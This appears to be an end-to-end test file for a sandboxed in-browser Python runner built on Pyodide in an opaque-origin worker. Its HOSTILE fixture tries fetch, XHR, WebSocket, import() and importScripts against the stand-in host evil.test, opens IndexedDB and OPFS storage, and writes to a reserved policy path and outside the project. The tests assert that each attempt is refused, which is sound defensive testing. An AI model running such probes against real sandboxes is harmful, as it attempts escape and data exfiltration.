"""The person's Python through the real UI in headless Chromium (issue 32; docs/python.md): a
.py file runs in a runtime of its own — a worker with its own Pyodide inside the opaque-origin
frame with connect-src 'none' — as __main__, its output streaming into the panel; the files it
writes are applied by the host (receipt, audit) and appear in the tree; Stop ends a busy loop
and a sleep by restarting the runtime; the console keeps its variables; hostile code reaches
no network, no storage and no reserved path, while the host keeps answering."""

from __future__ import annotations

import json
import time

from e2e.files_kit import file_entry, open_file, open_folder, set_editor_text, wait_editor
from e2e.hostpage import HostPage
from e2e.site import SiteRouter
from e2e.tray_kit import SCREENSHOTS, open_in_ui

HELLO = """\
import os
print("hello from", __name__)
with open("data/numbers.txt") as f:
    numbers = [int(n) for n in f.read().split()]
os.makedirs("out", exist_ok=True)
with open("out/result.txt", "w") as f:
    f.write(f"sum={sum(numbers)}\\n")
print("wrote out/result.txt", sum(numbers))
"""

RUNTIME_BOOT_MS = 120_000
SCREENSHOT = SCREENSHOTS / "python-run.png"


def _project(host: HostPage, files: dict[str, bytes]) -> str:
    pid = host.ok("project.create", {"name": "py"}, human=True)["result"]["project"]["id"]
    for path, data in files.items():
        host.ok("file.write", {"project": pid, "path": path}, body=data, human=True)
    return pid


def _wait_status(host: HostPage, text: str, timeout: int = RUNTIME_BOOT_MS) -> str:
    host.page.wait_for_function(
        "(t) => document.getElementById('python-status')?.textContent.includes(t)",
        arg=text,
        timeout=timeout,
    )
    return host.page.text_content("#python-status") or ""


def _open_py(host: HostPage, pid: str, path: str) -> None:
    open_in_ui(host, pid, "files")
    open_file(host.page, path)
    wait_editor(host.page)
    host.page.wait_for_selector("#python-run")


def test_run_streams_output_and_the_host_applies_the_written_file_with_a_receipt(
    host: HostPage,
) -> None:
    pid = _project(host, {"hello.py": b"print('old')\n", "data/numbers.txt": b"4 5 6\n"})
    _open_py(host, pid, "hello.py")
    set_editor_text(host.page, HELLO)  # unsaved: Run saves it first
    host.page.click("#editor .cm-content")
    host.page.keyboard.press("Control+Enter")
    status = _wait_status(host, "Exited with status")
    assert "status 0" in status, (status, host.page.text_content("#python-output"))
    output = host.page.text_content("#python-output") or ""
    assert "hello from __main__" in output and "wrote out/result.txt 15" in output
    assert host.ok("file.read", {"project": pid, "path": "hello.py"})["body"] == HELLO.encode()
    written = host.ok("file.read", {"project": pid, "path": "out/result.txt"})
    assert written["body"] == b"sum=15\n"
    change = host.page.locator("#python-changes li[data-path='out/result.txt']")
    assert "created" in change.text_content() and "receipt" in change.text_content()
    assert written["result"]["sha256"][:16] in change.text_content()
    records = host.ok("audit.list", {"op": "file.write"})["result"]["records"]
    assert any(r.get("details", {}).get("path") == "out/result.txt" for r in records)
    open_folder(host.page, "out")  # the tree refreshed: the new folder is there
    host.page.wait_for_selector(file_entry("out/result.txt"))
    # the console keeps the run's namespace and its own variables across inputs
    console = host.page.locator("#python-console-input")
    console.fill("x = sum(numbers) * 2")
    console.press("Enter")
    _wait_status(host, "Exited with status 0")
    console.fill("print('x is', x)")
    console.press("Enter")
    host.page.wait_for_function(
        "() => document.getElementById('python-output').textContent.includes('x is 30')"
    )
    assert "receipt" in change.text_content()  # the run's list stays under console inputs
    # Tab completes a name from the console's namespace
    console.fill("numb")
    console.press("Tab")
    host.page.wait_for_function(
        "() => document.getElementById('python-console-input').value === 'numbers'"
    )
    console.fill("")
    # input() takes a typed line: the run's stack waits (JSPI), no SharedArrayBuffer
    console.fill("name = input('name? '); print('hello', name)")
    console.press("Enter")
    field = host.page.locator("#python-stdin")
    field.wait_for()
    field.fill("Ada")
    field.press("Enter")
    host.page.wait_for_function(
        "() => document.getElementById('python-output').textContent.includes('hello Ada')"
    )
    _wait_status(host, "Exited with status 0")
    # what a person sees after Run: Run's row at the top, the code, the output docked at the
    # window's foot (issue 33; the console's input above moved the window since)
    host.page.evaluate("() => document.getElementById('python-run').scrollIntoView()")
    host.page.screenshot(path=str(SCREENSHOT))


def _run_ui(host: HostPage) -> None:
    host.page.click("#python-run")
    host.page.wait_for_selector("#python-stop:not([disabled])")


def _stop_within(host: HostPage, limit_s: float) -> float:
    started = time.monotonic()
    host.page.click("#python-stop")
    _wait_status(host, "Stopped after", timeout=int(limit_s * 1000) + 1000)
    took = time.monotonic() - started
    assert took < limit_s, took
    assert "Python was restarted" in (host.page.text_content("#python-status") or "")
    return took


def test_a_busy_loop_and_a_long_sleep_are_stopped_by_restart_while_the_host_answers(
    host: HostPage,
) -> None:
    pid = _project(
        host,
        {
            "spin.py": b"print('spinning', flush=True)\nwhile True: pass\n",
            "nap.py": b"import time\nprint('sleeping', flush=True)\ntime.sleep(100)\n",
            "flood.py": b"while True:\n    print('x' * 200)\n",
            "big.py": b"data = bytearray(1 << 30)\ndata[-1] = 1\nprint('allocated', len(data))\n",
        },
    )
    _open_py(host, pid, "spin.py")
    _run_ui(host)
    host.page.wait_for_function(
        "() => document.getElementById('python-output').textContent.includes('spinning')",
        timeout=RUNTIME_BOOT_MS,
    )
    for _ in range(3):  # the host keeps answering while the person's code loops
        started = time.monotonic()
        host.ok("host.info")
        assert time.monotonic() - started < 1.0
    took = _stop_within(host, 2.0)
    open_file(host.page, "nap.py")
    _run_ui(host)
    host.page.wait_for_function(
        "() => document.getElementById('python-output').textContent.includes('sleeping')",
        timeout=RUNTIME_BOOT_MS,
    )
    _stop_within(host, 2.0)
    # an output flood: bounded on its way, the host keeps answering, Stop still works
    open_file(host.page, "flood.py")
    started = time.monotonic()
    _run_ui(host)
    host.page.wait_for_function(
        "() => document.getElementById('python-output').textContent.length > 100000",
        timeout=RUNTIME_BOOT_MS,
    )
    first_output = time.monotonic() - started
    for _ in range(3):
        started = time.monotonic()
        host.ok("host.info")
        assert time.monotonic() - started < 1.0
    _stop_within(host, 2.0)
    shown = host.page.evaluate("() => document.getElementById('python-output').textContent.length")
    assert shown <= (1 << 20) + 1000, shown  # at most 1 MiB of output per run reaches the page
    # a 1 GiB allocation grows the runtime's memory only; the host answers throughout
    open_file(host.page, "big.py")
    host.page.click("#python-run")
    done = "() => /Exited with status/.test(document.getElementById('python-status').textContent)"
    while not host.page.evaluate(done):
        started = time.monotonic()
        host.ok("host.info")
        assert time.monotonic() - started < 1.0
        host.page.wait_for_timeout(200)
    status = host.page.text_content("#python-status") or ""
    output = host.page.text_content("#python-output") or ""
    assert ("status 0" in status and "allocated 1073741824" in output) or "MemoryError" in output
    print(f"stop took {took * 1000:.0f} ms; restart to 100 kB of output {first_output:.1f} s")


HOSTILE = """import os
import js
from pyodide.ffi import create_proxy

seen = {}

def note(name):
    return create_proxy(lambda *a: seen.__setitem__(name, "settled"))

def sync(name, fn):
    try:
        fn()
        print(name, "REACHED")
    except Exception as exc:
        print(name, "refused", type(exc).__name__)

real_fetch = js.WorkerGlobalScope.prototype.fetch
for url in ("https://evil.test/f", "https://app.test/vbx/site-manifest.json"):
    real_fetch.call(js.self, url).then(note("fetch-ok " + url), note("fetch-refused " + url))
js.fetch("https://evil.test/g").then(note("fake-ok"), note("fake-refused"))

def xhr():
    x = js.XMLHttpRequest.new()
    x.open("GET", "https://evil.test/x", False)
    x.send()

sync("xhr", xhr)
sync("import", lambda: js.Function.new("return import('https://evil.test/m.js')")())
sync("importScripts", lambda: js.importScripts("https://evil.test/i.js"))
ws = None
try:
    ws = js.WebSocket.new("wss://evil.test/ws")
    ws.onerror = note("ws-error")
    ws.onopen = note("ws-open")
except Exception as exc:
    print("ws refused", type(exc).__name__)
storage = getattr(js.navigator, "storage", None)  # an opaque origin has none at all
if storage is None:
    print("opfs refused (no navigator.storage)")
else:
    storage.getDirectory().then(note("opfs-ok"), note("opfs-refused"))
sync("indexeddb", lambda: js.indexedDB.open("steal"))
print("origin", js.self.origin)  # opaque: no storage, cookie or cache of the site's origin
caches = getattr(js.self, "caches", None)
if caches is None:
    print("caches refused (no CacheStorage)")
else:
    try:
        caches.keys().then(note("caches-ok"), note("caches-refused"))
    except Exception as exc:
        print("caches refused", type(exc).__name__)
os.makedirs(".voicebox", exist_ok=True)
with open(".voicebox/policy.json", "w") as f:
    f.write("{}")
with open("/escape.txt", "w") as f:
    f.write("outside the project")
with open("fine.txt", "w") as f:
    f.write("ok")
print("probes sent")
"""


def test_hostile_code_reaches_no_network_no_storage_and_no_reserved_path(
    host: HostPage, router: SiteRouter
) -> None:
    failed: list[str] = []
    host.page.context.on("requestfailed", lambda r: failed.append(f"{r.url} {r.failure}"))
    pid = _project(host, {"hostile.py": HOSTILE.encode()})
    _open_py(host, pid, "hostile.py")
    _run_ui(host)
    status = _wait_status(host, "Exited with status")
    output = host.page.text_content("#python-output") or ""
    assert "status 0" in status, (status, output)
    assert "REACHED" not in output, output
    for probe in ("xhr refused", "import refused", "importScripts refused", "indexeddb refused"):
        assert probe in output, output
    for probe in ("opfs refused", "probes sent", "origin null"):
        assert probe in output, output
    changes = host.page.locator("#python-changes")
    reserved = changes.locator("li[data-path='.voicebox/policy.json']")
    assert "path-reserved" in reserved.text_content()
    assert "written" in changes.locator("li[data-path='fine.txt']").text_content()
    assert changes.locator("li[data-path='escape.txt']").count() == 0
    console = host.page.locator("#python-console-input")
    settled: list[str] = []
    deadline = time.monotonic() + 20
    while len([k for k in settled if k.startswith(("fetch", "fake"))]) < 3:
        assert time.monotonic() < deadline, settled
        console.fill("import json; print('SEEN' + json.dumps(sorted(seen)))")
        console.press("Enter")
        _wait_status(host, "Exited with status 0")
        text = host.page.text_content("#python-output") or ""
        settled = json.loads(text.rsplit("SEEN", 1)[1].splitlines()[0])
    assert not [k for k in settled if "-ok" in k or "open" in k], settled
    assert "fetch-refused https://evil.test/f" in settled
    assert "fetch-refused https://app.test/vbx/site-manifest.json" in settled
    files = {f["path"] for f in host.ok("file.walk", {"project": pid})["result"]["files"]}
    assert files == {"hostile.py", "fine.txt"}
    assert router.foreign == [], router.foreign  # nothing reached the network layer
    assert all(f.endswith(" csp") for f in failed if "evil.test" in f), failed
    host.ok("host.info")
